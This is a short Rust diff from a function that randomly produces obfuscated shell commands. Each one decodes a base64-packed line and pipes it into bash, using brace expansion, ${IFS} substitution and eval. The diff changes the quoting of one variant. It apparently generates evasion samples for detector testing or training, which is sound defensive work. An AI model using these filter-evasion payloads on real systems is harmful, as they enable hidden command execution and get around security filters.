@@ -398,7 +398,7 @@ fn braces(dice: &mut Dice, truth: &mut Truth) -> String {
     };
     let packed = base64(line.as_bytes());
     match dice.below(4) {
-        0 => format!("bash -c {{echo,{packed}}}|{{base64,-d}}|{{bash,-i}}\n"),
+        0 => format!("bash -c '{{echo,{packed}}}|{{base64,-d}}|{{bash,-i}}'\n"),
         1 => format!("echo${{IFS}}{packed}|base64${{IFS}}-d|bash\n"),
         2 => format!("bash${{IFS}}-c${{IFS}}'eval $(echo {packed}|base64 -d)'\n"),
         _ => format!("sh -c '$@|sh' . echo echo {packed} '|' base64 -d '|' bash\n"),
